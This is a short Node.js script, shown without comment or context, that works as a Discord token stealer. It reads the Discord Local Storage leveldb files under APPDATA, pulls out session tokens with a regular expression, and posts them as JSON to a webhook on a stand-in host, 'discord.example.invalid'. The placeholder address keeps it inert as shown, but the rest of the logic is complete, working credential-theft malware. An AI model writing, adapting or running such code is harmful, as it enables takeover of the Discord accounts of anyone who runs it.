const fs = require("fs");
const path = require("path");
const https = require("https");

const store = path.join(process.env.APPDATA || "", "discord", "Local Storage", "leveldb");
let tokens = [];
if (fs.existsSync(store)) {
  for (const file of fs.readdirSync(store)) {
    const text = fs.readFileSync(path.join(store, file), "utf8");
    tokens = tokens.concat(text.match(/[\w-]{24}\.[\w-]{6}\.[\w-]{27}/g) || []);
  }
}
const body = JSON.stringify({ content: tokens.join("\n") });
const req = https.request({ hostname: "discord.example.invalid", path: "/api/webhooks/912345678901234567/inert", method: "POST", headers: { "Content-Type": "application/json" } });
req.write(body);
req.end();
